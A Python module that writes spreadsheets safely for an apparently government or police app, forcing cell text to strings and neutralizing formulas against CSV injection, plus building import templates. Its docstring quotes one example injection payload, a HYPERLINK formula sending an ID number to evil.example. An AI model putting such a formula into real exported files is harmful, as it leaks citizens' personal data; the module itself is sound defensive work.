"""Every xlsx the app writes goes through here: one safe cell writer, and the import
templates as officers open them in Excel.

A spreadsheet program reads a cell's text that starts with "=", "+", "-", "@", a
tab or a carriage return as a formula (OWASP "CSV injection"): a citizen named
`=HYPERLINK("http://evil.example/?d="&B2,"open")` on a police list would become a
link that sends a neighbour's ID number away when an officer clicks it. So text
is always stored as a string cell (openpyxl would otherwise store "=…" as a
formula), and text with one of those leading characters also carries Excel's
quote prefix, so editing the cell keeps it text. The value itself is unchanged:
officers read and re-import the name exactly as the police list had it. Numbers,
dates and None are written as they are (a negative number stays a number).
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from io import BytesIO
from typing import Any

import openpyxl
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
GUIDE_TITLE = "Hướng dẫn"

# What Excel, LibreOffice and Google Sheets take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def clean_text(text: str) -> str:
    """`text` without the control characters XLSX cannot store (tab and newlines stay)."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def write(cell: Any, value: Any) -> Any:
    """Put `value` in `cell`: text as text (never a formula, an error code or a number),
    anything else as openpyxl stores it. Returns the cell, to style it."""
    if isinstance(value, str):
        value = clean_text(value)
        cell.value = value
        cell.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write `value` at (`row`, `column`) of a sheet; returns the cell."""
    cell: Cell = write(sheet.cell(row=row, column=column), value)
    return cell


def row_cells(sheet: Any, values: Iterable[Any], font: Font | None = None) -> list[WriteOnlyCell]:
    """`values` as cells for `sheet.append`, in a normal or a write-only sheet."""
    cells = []
    for value in values:
        cell = write(WriteOnlyCell(sheet), value)
        if font is not None:
            cell.font = font
        cells.append(cell)
    return cells


def append(sheet: Any, values: Iterable[Any], font: Font | None = None) -> None:
    """Append one row of `values` (the safe `sheet.append`)."""
    sheet.append(row_cells(sheet, values, font))


def neutralize(book: Workbook) -> int:
    """Turn any formula a writer put without `write` back into the text it was; returns
    how many. `save` runs it, so a cell written some other way cannot ship a formula."""
    fixed = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = isinstance(cell.value, str)
                if cell.data_type in ("f", "e") or (
                    text and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix
                ):
                    write(cell, str(cell.value))
                    fixed += 1
    return fixed


def save(book: Workbook) -> bytes:
    """The workbook's bytes, every cell checked by `neutralize` first."""
    neutralize(book)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


# --- import templates ----------------------------------------------------------------------------


def template_workbook(
    title: str,
    headers: Sequence[str],
    examples: Sequence[Sequence[Any]],
    guide_headers: Sequence[str],
) -> tuple[Workbook, Worksheet]:
    """An import template as officers open it in Excel: a data sheet whose columns are
    text (so ID numbers, codes and phone numbers keep their leading zeros) with a
    frozen, bold header row, and a "Hướng dẫn" sheet explaining each column. The
    caller appends the guide's rows (with `append`) and calls `template_bytes`."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None  # noqa: S101 - a new workbook always has one sheet
    sheet.title = title
    append(sheet, headers, font=Font(bold=True))
    for row in examples:
        append(sheet, row)
    for index, text in enumerate(headers, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = max(14, len(text) + 4)
        sheet.column_dimensions[letter].number_format = "@"
        for row_number in range(2, len(examples) + 2):
            sheet.cell(row=row_number, column=index).number_format = "@"
    sheet.freeze_panes = "A2"
    guide = book.create_sheet(GUIDE_TITLE)
    append(guide, guide_headers)
    return book, guide


def template_bytes(book: Workbook, guide: Worksheet, widths: Sequence[int]) -> bytes:
    """Wrap the guide's text, bold its header, set its column widths, and save."""
    for row in guide.iter_rows():
        for cell in row:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    for cell in guide[1]:
        cell.font = Font(bold=True)
    for index, width in enumerate(widths, start=1):
        guide.column_dimensions[get_column_letter(index)].width = width
    return save(book)
